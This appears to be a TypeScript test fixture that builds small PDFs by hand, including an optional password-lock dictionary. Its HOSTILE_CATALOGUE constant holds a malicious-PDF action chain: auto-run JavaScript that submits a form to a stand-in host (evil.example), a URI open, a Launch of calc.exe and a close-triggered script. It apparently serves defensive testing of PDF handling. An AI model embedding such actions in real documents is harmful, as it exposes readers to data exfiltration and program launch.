/** A PDF written by hand: a line of words on each page. `more` stands in its catalogue: what opening it would do. */
export function writtenPdf(pages: readonly string[], more = ""): Buffer {
  const font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>";
  const kids = pages.map((_, at) => `${at * 2 + 4} 0 R`).join(" ");
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${more}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
    font,
    ...pages.flatMap((words, at) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents ${at * 2 + 5} 0 R` +
        "/Resources<</Font<</F1 3 0 R>>>>>>",
      streamOf(`BT /F1 24 Tf 60 740 Td (${words}) Tj ET 0.1 0.2 0.42 rg 60 600 300 60 re f`),
    ]),
  ];
  let text = "%PDF-1.4\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const end = text.length;
  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${end}\n%%EOF`;
  return Buffer.from(text, "latin1");
}

/** What a hostile PDF would do once it is open: run a script, send a form, open a page, and start a program. */
export const HOSTILE_CATALOGUE =
  "/OpenAction<</S/JavaScript/JS(app.alert\\('x'\\);this.submitForm\\('https://evil.example'\\))" +
  "/Next<</S/URI/URI(https://evil.example/opened)/Next<</S/Launch/F(calc.exe)>>>>>>" +
  "/AA<</WC<</S/JavaScript/JS(app.alert\\('closed'\\))>>>>";

/** The same file, which only a password would open. */
export function lockedPdf(pdf: Buffer): Buffer {
  const id = `<${"00".repeat(16)}>`;
  const key = `<${"00".repeat(32)}>`;
  const lock = `/Root 1 0 R/ID[${id}${id}]/Encrypt<</Filter/Standard/V 1/R 2/O${key}/U${key}/P -4>>`;
  return Buffer.from(pdf.toString("latin1").replace("/Root 1 0 R", lock), "latin1");
}

function streamOf(content: string): string {
  return `<</Length ${content.length}>>stream\n${content}\nendstream`;
}
